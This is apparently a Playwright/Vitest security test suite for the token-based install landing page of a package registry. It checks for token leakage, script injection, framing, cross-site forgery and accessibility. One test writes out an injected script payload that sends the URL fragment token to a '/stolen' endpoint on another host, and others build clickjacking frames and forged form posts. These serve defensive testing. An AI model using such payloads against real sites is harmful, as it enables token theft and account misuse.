import { createHash } from "node:crypto"
import type { Page } from "playwright-core"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { openStage, type Stage } from "../support/landing/stage.ts"
import { historyOf, keptBy } from "../support/landing/traces.ts"

let stage: Stage
beforeAll(async () => {
  stage = await openStage()
})
afterAll(() => stage.end())

const statusOf = (page: Page) => page.getByRole("status").innerText()
/** Goes back to an address and forward again. @returns every address on the way. */
async function thereAndBack(page: Page, first: string): Promise<string[]> {
  const way = [page.url()]
  while (page.url() !== first) {
    await page.goBack()
    way.push(page.url())
  }
  for (const _ of way.slice(1)) {
    await page.goForward()
    way.push(page.url())
  }
  return way
}

const landing = () => `${stage.whs.url}/fleetprompt/install`

describe.each([
  ["the client", "whs"],
  ["the example", "whs-example"],
])("T-LANDING-1 · The landing page of %s, in a real browser,", (_whose, target) => {
  it("leaves the token in no address, history, referrer, request, storage or log", async () => {
    const { bob, elsewhere, whs, example, world, start, look, visit, showElsewhere } = stage
    const issued = await start(bob, target)
    await visit(async (page, context) => {
      const sent: string[] = []
      const said: string[] = []
      context.on("request", (request) => sent.push(`${request.url()} ${JSON.stringify(request.headers())}`))
      context.on("console", (message) => said.push(message.text()))
      await showElsewhere(page, `<a href="${issued.link}">Install</a>`)
      const before = await page.evaluate(() => history.length)
      await page.getByRole("link").click()
      await page.getByLabel("Member").fill("bob")
      expect(await page.evaluate(() => history.length)).toBe(before + 1)
      await page.keyboard.press("Enter")
      await page.getByRole("button", { name: "Install" }).waitFor()
      const kept = [await keptBy(page, context)]
      kept.push(...(await thereAndBack(page, `${elsewhere.url}/mail`)))
      await page.getByRole("button", { name: "Install" }).click()
      await page.getByText("It is installed.").waitFor()
      kept.push(await keptBy(page, context))

      const next = `${elsewhere.url}/after-${target}`
      await page.evaluate((address) => location.assign(address), next)
      await page.waitForURL(next)
      expect(await page.evaluate(() => document.referrer)).toBe("")
      expect(elsewhere.requests.find(({ url }) => next.endsWith(url))?.headers.referer).toBeUndefined()
      const steps = await historyOf(page)
      const registryLog = world.registry.process.stderr()
      expect(registryLog).toContain("/v1/install-intents/redeem")
      const logs = [elsewhere.requests, whs.requests, whs.errors].map((part) => JSON.stringify(part))
      const traces = [...steps, ...sent, ...said, ...kept, ...logs, registryLog]
      traces.push(example.process.stdout(), example.process.stderr())
      expect(traces.length).toBeGreaterThan(15)
      expect(traces.filter((trace) => trace.includes(issued.installToken))).toEqual([])
    })
    expect(await look(bob, issued)).toEqual({ status: "redeemed", outcome: "completed" })
  })

  it("has taken the token out of the address before it is posted, and where it cannot be", async () => {
    const { bob, start, visit, showElsewhere } = stage
    const { link, installToken } = await start(bob, target)
    const address = link.slice(0, link.indexOf("#"))
    await visit(async (page, context) => {
      let addressMeanwhile = ""
      await context.route(address, async (route) => {
        if (route.request().method() !== "POST") return await route.continue()
        addressMeanwhile = await page.evaluate(() => location.href)
        return await route.abort()
      })
      await showElsewhere(page, `<a href="${link}">Install</a>`)
      await page.getByRole("link").click()
      await page.getByText("Start the install again").waitFor()
      expect([addressMeanwhile, page.url()]).toEqual([address, address])
      expect((await historyOf(page)).at(-1)).toContain(address)
      expect((await historyOf(page)).filter((step) => step.includes(installToken))).toEqual([])
    })
  })
})

describe("T-LANDING-2 · The landing page, among hostile pages and texts,", () => {
  /** What an attacker would like to get into it: runs, or loads something, before the page's own script. */
  const injected = () =>
    `<script>new Image().src = "${stage.elsewhere.url}/stolen?" + location.hash.slice(1)</script>` +
    `<img src="${stage.elsewhere.url}/stolen-by-picture">`

  async function openInjected(bypassCSP: boolean): Promise<string[]> {
    const { bob, elsewhere, whs, start, visit } = stage
    const before = elsewhere.requests.length
    const { link } = await start(bob)
    whs.inject(injected())
    await visit(
      async (page) => {
        await page.goto(link)
        await page.getByRole("button", { name: "Install" }).waitFor()
      },
      { bypassCSP, member: "bob" },
    )
    whs.inject("")
    return elsewhere.requests.slice(before).map(({ url }) => url)
  }

  it("runs no script and loads nothing that is not its own", async () => {
    expect(await openInjected(false)).toEqual([])
  })

  it("would lose the token without its policy, so that the case before proves something", async () => {
    expect((await openInjected(true)).join()).toContain("/stolen?fp_token=fpit_")
  })

  it("is shown in no frame, so that nobody is led to press its button", async () => {
    const { bob, whs, start, visit, showElsewhere } = stage
    const { link } = await start(bob)
    const posts = () => whs.requests.filter(({ method }) => method === "POST").length
    const before = posts()
    await visit(
      async (page) => {
        const frame = (address: string) => `<iframe src="${address}"></iframe>`
        await showElsewhere(page, frame(link) + frame(`${landing()}/confirm`) + frame(`${whs.url}/sign-in`))
        await page.frameLocator("iframe >> nth=2").getByLabel("Member").waitFor()
        const shown = page.frames().map((each) => each.url().split(":")[0])
        expect(shown).toEqual(["http", "chrome-error", "chrome-error", "http"])
      },
      { member: "bob" },
    )
    expect(posts()).toBe(before)
  })

  it("takes neither a link nor an answer from a page of another site", async () => {
    const { bob, eve, whs, start, look, visit, showElsewhere } = stage
    const bobs = await start(bob)
    const eves = await start(eve)
    await visit(
      async (page) => {
        const submit = async (address: string, fields: Record<string, string>) => {
          const inputs = Object.entries(fields).map(([name, value]) => `<input name="${name}" value="${value}">`)
          await showElsewhere(
            page,
            `<form method="post" action="${address}">${inputs.join("")}<button>Win</button></form>`,
          )
          await page.getByRole("button").click()
          return await statusOf(page)
        }
        await page.goto(bobs.link)
        const install = await page.locator("input[name=install]").inputValue()
        const refusal = "This request came from another site. Start the install again from the registry."
        expect(await submit(landing(), { link: eves.link })).toBe(refusal)
        expect(await submit(`${landing()}/confirm`, { install, answer: "install" })).toBe(refusal)
      },
      { member: "bob" },
    )
    expect(await look(bob, bobs)).toMatchObject({ status: "token_issued" })
    expect(whs.errors).toEqual([])
  })
})

describe("T-LANDING-3 · The way from the link to the outcome", () => {
  it("is gone by the keyboard alone", async () => {
    const { bob, start, look, visit } = stage
    const issued = await start(bob)
    await visit(async (page) => {
      await page.goto(issued.link)
      await page.getByLabel("Member").waitFor()
      for (const key of ["Tab", "b", "o", "b", "Enter"]) await page.keyboard.press(key)
      await page.getByText("Do you want to install this?").waitFor()
      await page.keyboard.press("Tab")
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe("Install")
      await page.keyboard.press("Enter")
      await page.getByText("It is installed.").waitFor()
    })
    expect(await look(bob, issued)).toEqual({ status: "redeemed", outcome: "completed" })
  })

  it("is gone without JavaScript, by the link pasted into a form", async () => {
    const { bob, whs, start, look, visit } = stage
    const issued = await start(bob)
    await visit(
      async (page) => {
        await page.goto(issued.link)
        await page.getByLabel("Install link").fill(issued.link)
        await page.getByRole("button", { name: "Continue" }).click()
        await page.getByLabel("Member").fill("bob")
        expect(page.url()).toBe(`${whs.url}/sign-in`)
        await page.keyboard.press("Enter")
        await page.waitForURL(`${landing()}/confirm`)
        await page.getByRole("button", { name: "Install" }).click()
        expect(await statusOf(page)).toBe("It is installed.")
      },
      { javaScriptEnabled: false },
    )
    expect(await look(bob, issued)).toEqual({ status: "redeemed", outcome: "completed" })
    expect(JSON.stringify(whs.requests)).not.toContain(issued.installToken)
  })

  it("keeps what it needs in a cookie that loopback's browsers take, of this host, out of reach of scripts", async () => {
    const { bob, start, visit } = stage
    const { link } = await start(bob)
    await visit(
      async (page, context) => {
        await page.goto(link)
        await page.getByRole("button", { name: "Install" }).waitFor()
        const kept = (await context.cookies()).find(({ name }) => name === "__Host-fp_install")
        expect(kept).toMatchObject({ httpOnly: true, secure: true, sameSite: "Lax", path: "/", domain: "127.0.0.1" })
        expect(await page.evaluate(() => document.cookie)).not.toContain("fp_install")
      },
      { member: "bob" },
    )
  })
})

describe("T-LANDING-4 · An attacker's link in somebody's browser", () => {
  it("installs nothing for them, and leaves their own install as it was", async () => {
    const { bob, eve, whs, start, look, visit } = stage
    const eves = await start(eve)
    const bobs = await start(bob)
    const before = whs.installed.length
    await visit(
      async (page) => {
        await page.goto(eves.link)
        await page.getByText("Somebody else started this install.").waitFor()
        expect(await page.getByRole("button").count()).toBe(0)
        // The page shows no button. Who knows the token can forge its form, and gets no further.
        const install = createHash("sha256").update(eves.installToken).digest("hex")
        const forged = await page.evaluate(
          async (fields) => {
            const reply = await fetch(location.pathname, { method: "POST", body: new URLSearchParams(fields) })
            return { status: reply.status, text: await reply.text() }
          },
          { install, answer: "install" },
        )
        expect(forged).toEqual({ status: 403, text: expect.stringContaining("Somebody else started this install.") })
        expect([await look(eve, eves), whs.installed.length]).toEqual([
          { status: "token_issued", outcome: null },
          before,
        ])
        await page.goto(bobs.link)
        await page.getByRole("button", { name: "Install" }).click()
        await page.getByText("It is installed.").waitFor()
      },
      { member: "bob" },
    )
    expect(await look(bob, bobs)).toEqual({ status: "redeemed", outcome: "completed" })
    expect(await look(eve, eves)).toEqual({ status: "token_issued", outcome: null })
    expect(whs.installed).toHaveLength(before + 1)
  })
})
